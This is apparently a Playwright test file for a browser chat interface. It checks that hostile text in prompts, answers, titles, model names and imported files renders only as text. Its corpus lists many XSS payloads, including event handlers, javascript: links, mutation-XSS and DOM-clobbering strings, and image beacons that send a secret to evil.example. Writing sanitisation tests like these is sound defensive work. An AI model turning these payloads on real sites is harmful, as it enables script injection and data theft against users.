# SPDX-FileCopyrightText: 2026 The green-qwen authors
#
# SPDX-License-Identifier: Apache-2.0
"""Hostile text in prompts, answers, names and files stays text. Each visit's own rules judge as well."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

from browser.chat import Chat
from browser.ground import HOSTILE_MODEL

# The echo brings each into a prompt, an answer and a conversation's title.
CORPUS = (
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<script>alert(1)</script>",
    "[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) [c](\x01javascript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>) <data:text/html,x>",
    "[a](vbscript:msgbox(1)) [b](blob:x) [c](file:///etc/passwd) [d](//evil.example/x)",
    "![steal](https://evil.example/p.png?said=secret) ![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '[a](https://example.com/" onmouseover="alert(1)) [b](https://example.com \'x" onclick="alert(1)\')',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<style>*{background:url(https://evil.example/x)}</style><div style="background:url(//evil.example)">',
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
    "<iframe src=javascript:alert(1)></iframe><object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=x><button formaction=javascript:alert(1)>go</button></form>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<a id=body name=cookie><form id=view name=getElementById><input id=simulated name=attributes>",
    "```html\n<img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```",
    '```"><img/src=x/onerror=alert(1)>\nx\n```',
    "`<img src=x onerror=alert(1)>` **<b onclick=alert(1)>x</b>**",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | x |",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "<think><img src=x onerror=alert(1)></think>after",
    "[x]: javascript:alert(1)\n\n[x] and [y][x]",
)
TOGETHER = 6
FORBIDDEN = (
    "script, style, link, meta, base, iframe, object, embed, form, input, img, svg, math, "
    "[id], [name], [style], [onerror], [onload], [onclick], [onmouseover]"
)


def test_nothing_that_is_said_becomes_markup(chat: Chat) -> None:
    """All of the corpus, some at a time; links lead only where links may."""
    chat.choose()
    told = ["\n\n".join(CORPUS[place : place + TOGETHER]) for place in range(0, len(CORPUS), TOGETHER)]
    for hostile in told:
        chat.press("New conversation")
        chat.ask(hostile)

        assert chat.page.locator(".message").locator(FORBIDDEN).count() == 0, hostile
        assert chat.page.locator(".list").locator("img, script, svg").count() == 0, hostile
        links = chat.last.locator("a")
        schemes = set(links.evaluate_all("all => all.map((one) => one.protocol)"))
        assert schemes <= {"http:", "https:", "mailto:"}, hostile
        assert set(links.evaluate_all("all => all.map((one) => one.rel)")) <= {"noopener noreferrer"}, hostile
    chat.page.reload()
    expect(chat.page.locator(".list li")).to_have_count(len(told))


@pytest.mark.parametrize("hostile", ["<img src=x onerror=alert(1)>", "a < b && c > d </p>"])
def test_tags_are_shown_as_they_are_written(chat: Chat, hostile: str) -> None:
    """In the answer, the question and the title."""
    chat.choose()
    chat.ask(hostile)

    expect(chat.last.locator(".text")).to_have_text(hostile)
    expect(chat.questions.last.locator(".said")).to_have_text(hostile)
    expect(chat.page.get_by_role("heading", level=1)).to_have_text(hostile)


def test_a_models_name_is_text(chat: Chat) -> None:
    """In the list and in the receipt."""
    chat.choose(HOSTILE_MODEL)
    chat.ask("Hello")
    chat.last.get_by_text("Receipt", exact=True).click()

    expect(chat.last.locator("dd").first).to_have_text(HOSTILE_MODEL)


def test_a_file_of_a_stranger_brings_text_alone(chat: Chat, tmp_path: Path) -> None:
    """Whatever it says of an answer's receipt or state."""
    entry = {"id": "e", "role": "assistant", "text": "<img src=x onerror=alert(1)>", "state": "streaming"}
    receipt = {"energy_j": "<b>1</b>", "method": "<script>alert(1)</script>", "request": {"a": 1}}
    stranger: dict[str, Any] = {
        "id": "c",
        "title": "<b>t</b>",
        "entries": [{**entry, "receipt": receipt, "notes": {"merge": 5}}],
    }
    deep = [
        {"id": f"d{depth}", "role": "assistant", "text": ">" * depth + "deep"} for depth in (2000, 20_000)
    ]
    stranger["entries"] += deep
    path = tmp_path / "conversations.json"
    path.write_text(json.dumps({"format": "green-qwen conversations", "conversations": [stranger]}))
    with chat.page.expect_file_chooser() as chooser:
        chat.press("Import")
    chooser.value.set_files(path)

    expect(chat.answers.first.locator(".text")).to_have_text("<img src=x onerror=alert(1)>")
    expect(chat.last.locator(".text")).to_contain_text("deep")
    assert chat.page.locator(".message").locator(FORBIDDEN).count() == 0
